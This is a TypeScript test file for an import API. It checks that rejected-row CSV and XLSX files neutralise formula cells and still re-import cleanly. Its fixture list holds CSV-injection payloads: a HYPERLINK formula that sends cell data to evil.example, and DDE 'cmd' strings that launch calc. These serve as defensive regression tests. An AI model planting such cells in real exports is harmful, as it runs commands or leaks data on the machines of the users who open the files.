import ExcelJS from 'exceljs';
import { Customer } from '../../entities/customer.entity';
import { parseCsv } from '../../formats/csv';
import { neutralizeFormula, readNeutralized } from '../../imports/formula-cells';
import { rejectsXlsxFile, type RejectsData } from '../../imports/rejects';
import { startApiHarness, type ApiHarness } from '../api/api-harness';

/**
 * #17 (probe): the rejects CSV of an upload (`rejectsCsv` in the answer of POST /imports/statements,
 * the CLI's --rejects file) gave the uploader's cells back unchanged: a description
 * `=HYPERLINK(…)` ran as a formula on the clerk's machine who opened the file to fix it. Its cells
 * are neutralised like the report CSVs, and the file still imports again with the same template.
 */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];
const TEMPLATE = {
  columns: { date: '日期', docNo: '单号', description: '摘要' },
  amount: { column: '金额' },
};

const csvLine = (cells: string[]) => cells.map((c) => `"${c.replace(/"/g, '""')}"`).join(',');

describe('the rejects file of an upload carries no live formula (#17 probe)', () => {
  let h: ApiHarness;

  beforeAll(async () => {
    h = await startApiHarness('rejects-formula', { uploads: true });
    await h.db.dataSource.getRepository(Customer).save({ code: 'RF1', name: '客户 RF1', currency: 'CNY' });
  });

  afterAll(() => h?.stop());

  const upload = async (text: string, name: string) => {
    const form = new FormData();
    form.append('customerCode', 'RF1');
    form.append('template', JSON.stringify(TEMPLATE));
    form.append('periodStart', '2026-10-01');
    form.append('periodEnd', '2026-10-31');
    form.append('mode', 'VALID_ROWS');
    form.append('file', new Blob([text]), name);
    const response = await fetch(`${h.api.url}/imports/statements`, {
      method: 'POST',
      body: form,
      headers: { authorization: h.bearer.CLERK },
    });
    return { status: response.status, body: (await response.json()) as Record<string, unknown> };
  };

  it('neutralises such cells in rejectsCsv, and the fixed file imports them as they were', async () => {
    const rows = [
      ['日期', '单号', '摘要', '金额'],
      ['2026-10-03', 'INV-OK', 'good line', '100.00'],
      // Bad amounts: rejected, with a hostile document number and description each.
      ...HOSTILE.map((text, i) => ['2026-10-05', `@DOC${i}`, text, 'not money']),
      // A bad date; its amount, negative with grouping, is a number, not a formula: it stays as it is.
      ['not a date', '=DOC', 'grouped', '-1,500.00'],
    ];
    const first = await upload(`${rows.map(csvLine).join('\r\n')}\r\n`, 'hostile.csv');
    expect(first.status).toBe(201);
    const rejectsCsv = first.body.rejectsCsv as string;
    const cells = parseCsv(rejectsCsv).records.flatMap((record) => record.cells);
    const live = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && neutralizeFormula(cell) !== cell);
    expect(live).toEqual([]);
    for (const text of HOSTILE) expect(cells).toContain(`'${text.trim()}`);
    expect(cells).toContain("'@DOC0");
    expect(cells).toContain("'=DOC");
    expect(cells).toContain('-1,500.00');

    // Fixed by hand (the amounts), the rejects file goes in with the same template.
    const fixed = rejectsCsv.replaceAll('not money', '10.00').replace('not a date', '2026-10-06');
    const second = await upload(fixed, 'hostile-rejects.csv');
    expect(second.status).toBe(201);
    expect(second.body).toMatchObject({ action: 'ADDED', lineCount: HOSTILE.length + 1 });
    const stored = (await h.db.dataSource.query(
      'SELECT doc_no, description, amount FROM statement_lines WHERE statement_id = ? ORDER BY id',
      [second.body.statementId],
    )) as Array<{ doc_no: string; description: string; amount: string }>;
    // The cells as the customer wrote them (trimmed as every import trims), no apostrophe added.
    expect(stored.map((line) => line.description)).toEqual([
      'good line',
      ...HOSTILE.map((text) => text.trim()),
      'grouped',
    ]);
    expect(stored.map((line) => line.doc_no)).toEqual([
      'INV-OK',
      ...HOSTILE.map((_, i) => `@DOC${i}`),
      '=DOC',
    ]);
    expect(Number(stored[stored.length - 1].amount)).toBe(-1500);
  });

  it('reads back only the apostrophe it adds; numbers in any grouping are left alone', () => {
    for (const text of [...HOSTILE, '@x', "'=x", "it's", "'quoted'"])
      expect(readNeutralized(neutralizeFormula(text))).toBe(text.startsWith("'=") ? text.slice(1) : text);
    expect(['-1,500.00', '+3', '-0.5', '1 500,00', '2026-10-01', 'INV-001'].map(neutralizeFormula)).toEqual([
      '-1,500.00',
      '+3',
      '-0.5',
      '1 500,00',
      '2026-10-01',
      'INV-001',
    ]);
  });

  it('the XLSX rejects file stores such cells as text, never as formulas', async () => {
    const data: RejectsData = {
      format: 'XLSX',
      encoding: null,
      delimiter: null,
      sheetName: 'Sheet1',
      dateFormat: 'AUTO',
      headerRows: [{ row: 1, cells: ['摘要', '金额'] }],
      rows: [{ row: 2, cells: [HOSTILE[0], 'x'], issues: [] }],
      width: 2,
    };
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await rejectsXlsxFile(data)) as unknown as ArrayBuffer);
    const cell = book.getWorksheet('Sheet1')!.getRow(2).getCell(1);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(HOSTILE[0]);
  });
});
